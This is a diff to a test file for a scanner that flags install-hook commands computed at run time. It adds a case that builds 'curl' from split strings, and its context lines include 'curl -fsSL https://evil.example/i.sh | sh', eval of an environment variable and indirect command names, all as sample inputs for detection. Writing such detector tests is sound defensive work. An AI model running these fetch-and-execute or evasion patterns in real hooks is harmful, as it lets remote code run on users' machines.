@@ -45,6 +45,7 @@ describe('hook scan: values computed at run time', () => {
     ['a download tool located into a variable, piped into a shell', ['CURL="$(command -v curl)"', '"$CURL" -fsSL https://evil.example/i.sh | sh'], [`${DL}@INSTALL:3`]],
     ['a command named by a substitution', ['step=$(cat payload/next-step)', '$step --now'], [`${DYN}@INSTALL:3`]],
     ['a command named by a backquoted substitution', ['h=`cat payload/handler`', '"$h" --now'], [`${DYN}@INSTALL:3`]],
+    ['a located command with text joined after it', ['x=$(command -v cu)rl', '$x --now'], [`${DYN}@INSTALL:3`]],
     ['a command named by read', ['read -r handler < payload/handler', '"$handler"'], [`${DYN}@INSTALL:3`]],
     ['a command named indirectly', ['h=HANDLER', '"${!h}" --install'], [`${DYN}@INSTALL:3`]],
     ['eval of a name from the environment', ['eval "$POST_INSTALL"'], [`${DYN}@INSTALL:2`]],
